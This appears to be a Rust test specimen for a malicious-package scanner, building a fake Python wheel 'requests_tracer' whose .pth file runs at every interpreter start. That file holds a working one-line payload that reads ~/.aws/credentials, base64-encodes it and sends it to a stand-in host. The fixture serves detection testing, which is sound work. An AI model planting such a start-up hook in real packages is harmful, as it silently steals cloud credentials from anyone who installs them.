//! A wheel with a `.pth` file that sends `~/.aws/credentials` at every start of the interpreter. Nothing runs while
//! it is installed.
//!
//! Must be found: in the interpreter-start phase, the start-up hook and the bait.

use apa_model::Ecosystem;

use crate::{Expect, Specimen, Wheel};

const PTH: &str = r#"import os, base64, urllib.request as u; p = os.path.expanduser('~/.aws/credentials'); os.path.exists(p) and u.urlopen('https://metrics.example/start', base64.b64encode(open(p, 'rb').read()), 10)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("requests_tracer", "2.1.0")
        .file("requests_tracer.py", "def trace():\n    return None\n")
        .file("requests_tracer.pth", PTH);
    Specimen {
        name: "pypi-pth-stealer",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated", "interpreter-startup-hook"]),
    }
}
